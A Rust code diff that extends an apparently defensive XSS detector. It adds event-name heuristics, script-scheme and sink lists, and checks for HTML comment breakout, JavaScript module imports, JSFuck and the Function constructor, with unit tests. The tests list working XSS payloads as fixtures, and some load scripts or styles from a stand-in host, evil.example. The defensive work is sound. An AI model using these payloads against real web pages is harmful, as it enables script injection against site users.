@@ -119,6 +119,39 @@ const EVENTS: &[&[u8]] = &[
     b"timeupdate",
 ];
 
+/// English words that start with `on` (after the `on`), which are not event names: `online=`,
+/// `onion=`, `onboarding=` in a value are prose or parameters.
+const ON_WORDS: &[&[u8]] = &[
+    b"line",
+    b"ion",
+    b"ly",
+    b"ce",
+    b"e",
+    b"to",
+    b"set",
+    b"ward",
+    b"going",
+    b"board",
+    b"shore",
+    b"screen",
+    b"site",
+    b"stage",
+    b"coming",
+    b"colog",
+    b"erous",
+    b"looker",
+    b"rush",
+    b"slaught",
+    b"us",
+    b"tolog",
+    b"yx",
+    b"ramp",
+    b"demand",
+    b"call",
+    b"premise",
+    b"boarding",
+];
+
 const SCRIPT_SCHEMES: &[&[u8]] = &[
     b"javascript:",
     b"vbscript:",
@@ -127,6 +160,9 @@ const SCRIPT_SCHEMES: &[&[u8]] = &[
     b"data:image/svg",
     b"data:application/x",
     b"data:text/xml",
+    b"data:text/javascript",
+    b"data:application/javascript",
+    b"data:application/ecmascript",
 ];
 
 pub(crate) const SINKS: &[&str] = &[
@@ -155,6 +191,19 @@ pub(crate) const SINKS: &[&str] = &[
     "top[",
     "self[",
     "window[",
+    "location.href",
+    "location.assign(",
+    "location.replace(",
+    "document.createelement(",
+    "atob(",
+    "btoa(",
+    "globalthis[",
+    "parent['",
+    "parent[\"",
+    "frames['",
+    "frames[\"",
+    "opener['",
+    "opener[\"",
 ];
 
 fn starts_with_ci(s: &[u8], p: &[u8]) -> bool {
@@ -216,6 +265,66 @@ fn entity_declaration(s: &[u8]) -> bool {
     }
     let decl = after.trim_ascii_start();
     decl.starts_with(b"system") || decl.starts_with(b"public") || decl.starts_with(b"\"")
+}
+
+/// Whether `s` (trimmed) starts with an HTML comment's end (`-->`, `--!>`).
+pub(crate) fn comment_breakout(s: &[u8]) -> bool {
+    let t = s.trim_ascii_start();
+    t.starts_with(b"-->") || t.starts_with(b"--!>")
+}
+
+/// `import <bindings> from "<path>"` or `import("<path>")`, where the module's path has a
+/// `/` (a relative path or a URL: what loads code from somewhere). Bindings are `{...}`, `*
+/// as x`, or a name; prose (`import it from 'Germany'`) names no path.
+pub(crate) fn module_import(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = crate::find(&s[from..], b"import") {
+        let at = from + p;
+        from = at + 6;
+        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'$' | b'.'))
+        {
+            continue;
+        }
+        // `imported`, `important`: another word.
+        if !s
+            .get(at + 6)
+            .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'{' | b'(' | b'*'))
+        {
+            continue;
+        }
+        let rest = s[at + 6..].trim_ascii_start();
+        let spec = if rest.first() == Some(&b'(') {
+            rest[1..].trim_ascii_start()
+        } else {
+            let bound = match rest.first() {
+                // Bounded windows: `import {import {...` must not rescan the rest each time.
+                Some(b'{') => memchr::memchr(b'}', &rest[..rest.len().min(256)]).map(|q| q + 1),
+                Some(b'*') => Some(1),
+                Some(c) if c.is_ascii_alphabetic() || matches!(c, b'_' | b'$') => Some(
+                    rest.iter()
+                        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
+                        .count(),
+                ),
+                _ => None,
+            };
+            let Some(b) = bound else { continue };
+            let after = &rest[b..];
+            let Some(f) = crate::find(&after[..after.len().min(64)], b"from") else {
+                continue;
+            };
+            after[f + 4..].trim_ascii_start()
+        };
+        let Some(&q) = spec.first().filter(|q| matches!(q, b'\'' | b'"' | b'`')) else {
+            continue;
+        };
+        let body = &spec[1..spec.len().min(512)];
+        if let Some(end) = memchr::memchr(q, body) {
+            if memchr::memchr(b'/', &body[..end]).is_some() {
+                return true;
+            }
+        }
+    }
+    false
 }
 
 /// The value with `\xHH` and `\u00HH` escapes turned into their bytes, when it has any.
@@ -455,13 +564,15 @@ fn obfuscated_scheme(raw: &[u8], s: &[u8], tmp: &mut Vec<u8>) -> bool {
     false
 }
 /// `raw` is the value before HTML entities were decoded, `s` after (both lower-cased).
+/// `hints`: the lexicon's hint words in `raw` ([`crate::lexicon::hint_bits`]).
 pub(crate) fn detect(
     raw: &[u8],
     s: &[u8],
     js_hit: bool,
+    hints: u8,
     tmp: &mut Vec<u8>,
 ) -> Option<&'static str> {
-    detect_at(raw, s, js_hit, tmp, 0)
+    detect_at(raw, s, js_hit, hints, tmp, 0)
 }
 
 /// `depth`: how many re-readings (JavaScript escapes, then the high bit) led here.
@@ -469,14 +580,18 @@ fn detect_at(
     raw: &[u8],
     s: &[u8],
     js_hit: bool,
+    hints: u8,
     tmp: &mut Vec<u8>,
     depth: u8,
 ) -> Option<&'static str> {
+    use crate::lexicon::{HINT_FUNCTION, HINT_IMPORT};
+    // Entities (`&#105;mport`) can hide a hint word from the scan of the raw value.
+    let hints = if raw.len() == s.len() { hints } else { 0xff };
     // JavaScript string escapes (`\x3csvg\x3e`, `\u003c`): a value written into a script
     // string becomes markup when the page puts that string into the document.
     if depth == 0 && memchr::memchr(b'\\', s).is_some() {
         if let Some(un) = js_unescape(s) {
-            if let Some(r) = detect_at(&un, &un, false, tmp, 1) {
+            if let Some(r) = detect_at(&un, &un, false, 0xff, tmp, 1) {
                 return Some(r);
             }
         }
@@ -485,7 +600,7 @@ fn detect_at(
     // as Latin-1): servers and browsers that read the page as US-ASCII drop that bit.
     if depth <= 1 && memchr::memchr(0xbc, s).is_some() {
         let seven = seven_bit(s);
-        if seven.contains(&b'<') && detect_at(&seven, &seven, false, tmp, 2).is_some() {
+        if seven.contains(&b'<') && detect_at(&seven, &seven, false, 0xff, tmp, 2).is_some() {
             return Some("xss-us-ascii");
         }
     }
@@ -495,6 +610,17 @@ fn detect_at(
         if entity_declaration(&s[p + 7..]) {
             return Some("xss-xml-entity");
         }
+    }
+    // A value that starts by closing an HTML comment (`-->`, `--!>`): written into a page's
+    // comment (debug output, templates that comment out a field), it ends the comment and
+    // whatever follows is markup. Prose writes arrows between words, not as a value's start.
+    if comment_breakout(s) {
+        return Some("xss-comment-breakout");
+    }
+    // A JavaScript module import (`import {a} from "./x.js"`, `import("//host/x.js")`):
+    // written into a script, it loads and runs a script of the attacker's choosing.
+    if hints & HINT_IMPORT != 0 && module_import(s) {
+        return Some("xss-js-import");
     }
     // UTF-7 markup (`+ADw-script+AD4-`), which old browsers decode.
     if memchr::memchr(b'+', s).is_some()
@@ -585,7 +711,17 @@ fn detect_at(
             continue;
         }
         let rest = &s[at + 2..];
-        if let Some(ev) = EVENTS.iter().find(|e| rest.starts_with(e)) {
+        // An unknown name (`onabcdefgh=`): browsers add events every year and ignore the
+        // rest, so a name that is not an English word counts too, when it is 4 to 25 letters.
+        let letters = rest.iter().take_while(|c| c.is_ascii_alphabetic()).count();
+        let unknown =
+            (4..=25).contains(&letters) && !ON_WORDS.iter().any(|w| rest[..letters].starts_with(w));
+        if let Some(ev) = EVENTS
+            .iter()
+            .copied()
+            .find(|e| rest.starts_with(e))
+            .or_else(|| unknown.then_some(&rest[..letters]))
+        {
             let mut j = ev.len();
             while j < rest.len() && rest[j].is_ascii_alphabetic() {
                 j += 1;
@@ -599,7 +735,14 @@ fn detect_at(
                     .rev()
                     .take(32)
                     .any(|&c| c == b'"' || c == b'\'' || c == b'`');
-                if quoted_before || at == 0 || prev.is_ascii_whitespace() || prev == b'/' {
+                // `x.onerror=alert`: a handler assigned as a property in script.
+                let property = prev == b'.' && !unknown;
+                if quoted_before
+                    || at == 0
+                    || prev.is_ascii_whitespace()
+                    || prev == b'/'
+                    || property
+                {
                     return Some("xss-attribute-breakout");
                 }
             }
@@ -619,8 +762,15 @@ fn detect_at(
             }
         }
     }
-    if memchr::memchr(b':', s).is_some() && dangerous_css(s) {
+    if (memchr::memchr(b':', s).is_some()
+        || memchr::memchr(b'@', s).is_some() && crate::find(s, b"@import").is_some())
+        && dangerous_css(s)
+    {
         return Some("xss-css");
+    }
+    // JSFuck (`(![]+[])[+!+[]]`): JavaScript written with six characters only.
+    if jsfuck(s) {
+        return Some("xss-jsfuck");
     }
     // Calls need a parenthesis or a template literal.
     memchr::memchr2(b'(', b'`', s)?;
@@ -662,7 +812,36 @@ fn detect_at(
             }
         }
     }
+    // `Function("code")()`, `Function('a','b')`: the constructor compiles a string into code.
+    let mut from = if hints & HINT_FUNCTION != 0 {
+        0
+    } else {
+        s.len()
+    };
+    while let Some(p) = crate::find(&s[from..], b"function") {
+        let at = from + p;
+        from = at + 8;
+        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
+            continue;
+        }
+        let after = s[at + 8..].trim_ascii_start();
+        if let Some(arg) = after.strip_prefix(b"(") {
+            if matches!(arg.trim_ascii_start().first(), Some(b'\'' | b'"' | b'`')) {
+                return Some("xss-js-call");
+            }
+        }
+    }
     None
+}
+
+/// A value written with JavaScript's six JSFuck characters (`[]()!+`) and blanks only, long
+/// enough to be code (`![]+[]`), with an empty array negated or added.
+fn jsfuck(s: &[u8]) -> bool {
+    let t = s.trim_ascii();
+    t.len() >= 6
+        && t.iter()
+            .all(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' '))
+        && (crate::find(t, b"![]").is_some() || crate::find(t, b"+[]").is_some())
 }
 
 #[cfg(test)]
@@ -677,7 +856,8 @@ mod tests {
         let mut hits = Vec::new();
         r.lexicon.scan(l.as_bytes(), &mut hits);
         let js = hits.iter().any(|h| h.family == crate::lexicon::Family::Js);
-        detect(l.as_bytes(), &h, js, &mut Vec::new())
+        let hints = crate::lexicon::hint_bits(&hits);
+        detect(l.as_bytes(), &h, js, hints, &mut Vec::new())
     }
 
     #[test]
@@ -753,21 +933,25 @@ mod tests {
     #[test]
     fn markup_with_the_high_bit_set() {
         let mut seven = b"\xbcsvg onload=alert(7)\xbe".to_vec();
-        assert!(detect(&seven, &seven, false, &mut Vec::new()).is_some());
+        assert!(detect(&seven, &seven, false, 0xff, &mut Vec::new()).is_some());
         // `ü` is c3 bc in UTF-8: valid text is never stripped.
         seven = "M\u{fc}nchen <3 gr\u{fc}n".as_bytes().to_vec();
-        assert_eq!(detect(&seven, &seven, false, &mut Vec::new()), None);
+        assert_eq!(detect(&seven, &seven, false, 0xff, &mut Vec::new()), None);
         seven = b"caf\xe9 \xbc50".to_vec();
-        assert_eq!(detect(&seven, &seven, false, &mut Vec::new()), None);
+        assert_eq!(detect(&seven, &seven, false, 0xff, &mut Vec::new()), None);
         seven = "\u{bc}iframe src=//x.example\u{be}".as_bytes().to_vec();
-        assert!(detect(&seven, &seven, false, &mut Vec::new()).is_some());
+        assert!(detect(&seven, &seven, false, 0xff, &mut Vec::new()).is_some());
         for b in [
             "\u{bc} cup sugar, \u{be} cup flour",
             "\u{bc}in bolts, \u{bd} price",
             "\u{4e2d}\u{bc}",
         ] {
             seven = b.as_bytes().to_vec();
-            assert_eq!(detect(&seven, &seven, false, &mut Vec::new()), None, "{b}");
+            assert_eq!(
+                detect(&seven, &seven, false, 0xff, &mut Vec::new()),
+                None,
+                "{b}"
+            );
         }
     }
 
@@ -844,6 +1028,111 @@ mod tests {
             "email me @ <b>home</b>",
             "<a href=\"https://example.com/@click\">x</a>",
             "reach us @click=here",
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn html_comment_breakout() {
+        for a in ["-->", "--><img src=x>", " --!>", "-->=1"] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "step 1 --> step 2",
+            "A-->B",
+            "<-- back",
+            "--> ".trim_start_matches('-'),
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn javascript_module_imports() {
+        for a in [
+            "import { sayHi, sayBye } from \"./greeting.js\";",
+            "import * as m from '//evil.example/m.js'",
+            "import x from `/x.js`",
+            "import('https://evil.example/x.js')",
+            "1;import(\"/a\")",
+        ] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "I had to import it from 'Germany'",
+            "import { useState } from 'react'",
+            "imported from \"Italy/Spain\"",
+            "import duties from the EU",
+            "important: from 'a/b'",
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn script_gadgets_without_markup() {
+        for a in [
+            "(![]+[])[+!+[]]",
+            "![]+[]",
+            "Function(\"a\")()",
+            "new Function ('alert(1)')",
+            "location.href='//evil.example'",
+            "@import url(//evil.example/x.css)",
+            "window.onerror=alert;throw 1",
+            "x=document.createElement('script')",
+        ] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "[] () !",
+            "this function (the main one) works",
+            "the location.of the shop",
+            "I import (from Italy)",
+            "read the docs.online=yes",
+            "Dysfunction('x')",
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn unknown_event_names_in_an_attribute_breakout() {
+        for a in [
+            "  onabcdefgh= ",
+            "\" onfoobar=x",
+            "' onwebkitthing=alert(1)",
+        ] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "status online=1",
+            "x onion=3",
+            "sale once=twice",
+            "\"onboarding= done",
+            "a onabc=1",
+            "x.onfoobar=1",
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn globals_reached_by_name_and_base64_decoders() {
+        for a in [
+            "atob('YWxlcnQoMSk=')",
+            "globalThis['alert'](1)",
+            "parent['al'+'ert'](1)",
+            "frames['x']",
+            "data:text/javascript,alert(1)",
+        ] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "my parent [in law] loved it",
+            "frames [black] 2 pack",
+            "a tob (yellow)",
+            "the text/javascript MIME type (data)",
         ] {
             assert_eq!(hit(b), None, "false positive: {b}");
         }
